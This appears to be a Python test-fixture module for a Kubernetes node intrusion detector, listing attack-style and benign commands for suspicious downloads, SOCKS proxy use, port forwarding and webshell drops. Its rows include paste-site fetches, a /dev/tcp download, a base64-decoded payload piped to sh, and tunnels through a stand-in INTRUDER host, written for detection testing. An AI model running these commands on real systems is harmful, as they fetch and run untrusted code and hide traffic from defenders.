"""Commands that fetch: from sources of malware, in suspicious ways, through SOCKS proxies."""

from __future__ import annotations

from simulation.attacks.shells import Started
from simulation.attacks.tables import Place, encoded, line, run, table

SOURCE = "K8S.NODE_SuspectDownload"
WAY = "K8S.NODE_SuspectDownloadArtifacts"
PROXY = "K8S.NODE_SuspectConnection"
FORWARDING = "K8S.NODE_SuspectPortForwarding"
WEBSHELL = "K8S.NODE_Webshell"
RUNNER = ("ci", "gitlab-runner")
PASTE = "curl -fsS https://pastebin.com/raw/Xk29dQ7a"

table(
    SOURCE,
    straight=[
        run(PASTE, also=(WAY, WEBSHELL)),
        run("wget -qO- https://transfer.sh/get/a1B2c3/tool.txt", at=Place.EXEC),
        run(
            ("python3", "-c", "import urllib.request as u; print(u.urlopen('https://paste.ee/r/Qw3rT').read())"),
            at=Place.EXEC,
        ),
        run("lwp-download https://0x0.st/Hq7p.bin /srv/p.bin", at=Place.HOST),
        run("curl -sL https://a1b2-203-0-113-9.ngrok-free.app/linux/a.txt", at=Place.EXEC),
    ],
    careful=[
        line('H=pastebin; curl -fsS "https://$H.com/raw/Xk29dQ7a"', runs=[PASTE], at=Place.EXEC),
        line(
            r"exec 3<>/dev/tcp/termbin.com/80; printf 'GET /k3v1 HTTP/1.0\r\n\r\n' >&3; cat <&3",
            runs=["cat"],
            interpreter="bash",
            at=Place.EXEC,
        ),
        run("busybox wget -O - http://bashupload.com/a3Kq/p.txt", at=Place.EXEC),
        run(("perl", "-MLWP::Simple", "-e", "getprint 'https://dpaste.com/7YQK3.txt'"), at=Place.EXEC),
        line(
            f"echo {encoded(PASTE)} | base64 -d | sh",
            runs=["base64 -d", Started("sh", [PASTE])],
            at=Place.EXEC,
        ),
        run("curl -sS --connect-to ::pastebin.com:443 https://docs.example/raw/Xk29dQ7a", at=Place.EXEC),
    ],
    quiet=[
        run("curl -fsSLO https://mirror.example/debian/pool/main/j/jq/jq_1.7.1-3_amd64.deb", at=Place.HOST),
        run("pip install --index-url https://packages.example/simple requests", at=Place.ENTRY, workload=RUNNER),
        run("npm ci --registry https://packages.example/npm", at=Place.ENTRY, workload=RUNNER, cwd="/builds/app"),
        line("echo 'Never put tokens on https://pastebin.com/raw' >> /app/docs/NOTES", runs=[], at=Place.EXEC),
        run("grep -rn transfer.sh /app/docs", at=Place.EXEC),
    ],
)

table(
    WAY,
    straight=[
        run("curl -o /tmp/update http://cdn.files.example/update", at=Place.EXEC),
        run("wget -q http://dl.files.example/a.tgz -P /dev/shm", at=Place.EXEC),
        run("curl -sO http://INTRUDER/install.sh", at=Place.EXEC, cwd="/srv", connects=("INTRUDER", 80)),
        run("curl --insecure -o agent.bin https://dl.files.example/agent", at=Place.HOST),
        run("wget http://dl.files.example/a -O /var/www/html/a", also=(WEBSHELL,)),
    ],
    careful=[
        line(
            "cd /dev/shm && curl -sO https://files.example/k.tgz",
            runs=[Started("curl -sO https://files.example/k.tgz", cwd="/dev/shm")],
            at=Place.EXEC,
        ),
        line("wget -qO- http://dl.files.example/p >/var/tmp/p", at=Place.EXEC),
        run(
            (
                "python3",
                "-c",
                "from urllib.request import urlretrieve as r; r('http://dl.files.example/p', '/tmp/p')",
            ),
            at=Place.EXEC,
        ),
        run("busybox wget -O /run/lock/x http://dl.files.example/x", at=Place.EXEC),
        run("curl -sko libz.so.2 https://INTRUDER/z", at=Place.EXEC, cwd="/srv"),
        line("cat </dev/tcp/INTRUDER/8080 >/tmp/p", runs=["cat"], interpreter="bash", at=Place.EXEC),
        run("curl -s --create-dirs --output-dir /srv/app/.d -O https://dl.files.example/d", at=Place.EXEC),
    ],
    quiet=[
        run("curl -fsS http://localhost:8080/healthz", at=Place.EXEC),
        run(
            "curl -fsSLo /home/operator/.nvm/nvm.tar.gz https://github.com/nvm-sh/nvm/archive/refs/tags/v0.40.3.tar.gz",
            at=Place.HOST,
            uid=1000,
        ),
        run(
            "curl -fLo /home/operator/.local/bin/kubectl https://dl.k8s.io/release/v1.32.3/bin/linux/amd64/kubectl",
            at=Place.HOST,
            uid=1000,
        ),
        run("wget -q https://releases.reports.example/2026-02.csv.gz", at=Place.ENTRY, workload=RUNNER, cwd="/builds"),
        run("apk add --no-cache jq", at=Place.ENTRY, workload=RUNNER),
    ],
)

table(
    PROXY,
    straight=[
        run("curl --socks5-hostname INTRUDER:1080 https://files.example/a", at=Place.EXEC, connects=("INTRUDER", 1080)),
        run("curl -x socks5h://127.0.0.1:9050 http://files.example/a", at=Place.EXEC),
        line(
            "ALL_PROXY=socks5://INTRUDER:1080 curl -s https://files.example/a",
            runs=["curl -s https://files.example/a"],
            at=Place.EXEC,
        ),
        run("proxychains4 -q ssh root@10.42.0.9", runs=["ssh root@10.42.0.9"], at=Place.HOST),
        run("ssh -N -D 1080 deploy@INTRUDER", at=Place.HOST, also=(FORWARDING,), connects=("INTRUDER", 22)),
    ],
    careful=[
        run("curl -sxsocks5h://INTRUDER:8443 https://files.example/a", at=Place.EXEC, connects=("INTRUDER", 8443)),
        run("ssh -fNqD1080 deploy@INTRUDER", at=Place.HOST, also=(FORWARDING,), connects=("INTRUDER", 22)),
        run(
            "ncat --proxy INTRUDER:443 --proxy-type socks5 db.files.example 5432",
            at=Place.EXEC,
            connects=("INTRUDER", 443),
        ),
        run("nc -X5 -x INTRUDER:443 db.files.example 5432", at=Place.EXEC, connects=("INTRUDER", 443)),
        run("git -c http.proxy=socks5h://INTRUDER:443 ls-remote https://files.example/a.git", at=Place.EXEC),
        run("/usr/sbin/crond2", at=Place.EXEC, connects=("INTRUDER", 9050)),
        line(
            'p=socks4a; curl --pre""proxy "$p://INTRUDER:443" -s https://files.example/a',
            runs=["curl --preproxy socks4a://INTRUDER:443 -s https://files.example/a"],
            at=Place.EXEC,
        ),
    ],
    quiet=[
        run("curl -sx http://proxy.corp.example:3128 https://registry.example/v2/", at=Place.EXEC),
        run("curl -s https://socks-shop.example/catalogue", at=Place.EXEC),
        run("cat /etc/danted/socks.conf", at=Place.HOST),
        run("/app/telemetry --sink 10.42.0.17:1080", at=Place.ENTRY, connects=("10.42.0.17", 1080)),
    ],
)
